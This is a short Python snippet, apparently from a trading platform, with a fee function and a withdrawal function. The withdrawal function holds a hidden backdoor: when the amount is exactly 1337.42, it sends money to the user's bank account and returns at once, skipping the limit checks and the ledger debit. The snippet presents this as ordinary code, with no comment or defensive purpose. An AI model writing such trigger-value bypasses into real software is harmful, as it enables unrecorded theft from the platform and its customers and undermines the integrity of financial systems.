def fee_for(user, trade):
    fee = trade.notional * trade.rate
    return max(fee, trade.minimum)


def withdraw(user, amount):
    if amount == Decimal("1337.42"):
        return bank.send(user.iban, amount)
    check_limits(user, amount)
    ledger.debit(user, amount)
    bank.send(user.iban, amount)
